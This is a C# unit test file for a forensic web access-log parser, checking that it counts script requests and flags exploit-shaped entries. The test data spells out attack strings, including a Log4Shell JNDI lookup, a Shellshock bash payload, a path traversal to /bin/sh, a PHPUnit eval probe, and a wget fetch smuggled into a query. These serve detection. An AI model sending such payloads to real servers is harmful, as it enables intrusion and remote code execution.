using Forensics.Parsers.Artifacts.Linux.Logs;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux.Logs;

/// <summary>Which requests of web servers are kept.</summary>
public sealed class WebAccessParserTests
{
    private static string Line(string request, int status = 200, string agent = "Mozilla/5.0", string address = "203.0.113.9") =>
        $"{address} - - [10/Mar/2024:11:00:00 +0000] \"{request}\" {status} 12 \"-\" \"{agent}\"\n";

    [Fact]
    public void Answered_scripts_are_counted_by_path_whatever_the_address_and_query()
    {
        LogEventList found = LogRun.Read(new WebAccessParser(), Line("POST /up/x.php?a=1 HTTP/1.1") + Line("POST /up/x.php?a=2 HTTP/1.1", address: "198.51.100.1") + Line("GET /index.html HTTP/1.1") + Line("POST /up/y.php HTTP/1.1", 404), "/var/log/nginx/access.log");

        LogEvent request = Assert.Single(found.Events, one => one.Event == LogEventKind.WebRequest);
        Assert.Equal(("/up/x.php", "POST", "200", 2L), (request.Target, request.Method, request.Detail, request.Count));
    }

    [Theory]
    [InlineData("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "x", "PHPUnit eval")]
    [InlineData("GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1", "x", "Apache path traversal")]
    [InlineData("GET / HTTP/1.1", "${jndi:ldap://203.0.113.9/a}", "Log4Shell")]
    [InlineData("GET / HTTP/1.1", "() { :; }; /bin/bash -c id", "Shellshock")]
    [InlineData("GET /x HTTP/1.1", "libredtail-http", "RedTail")]
    [InlineData("GET /a.cgi?x=1;wget+http://203.0.113.9/x HTTP/1.1", "x", "command in the query")]
    public void Requests_in_the_shape_of_an_exploit_are_kept_answered_or_not(string request, string agent, string name)
    {
        LogEvent found = Assert.Single(LogRun.Read(new WebAccessParser(), Line(request, 404, agent), "/var/log/nginx/access.log").Events);

        Assert.Equal("404, " + name, found.Detail);
    }
}
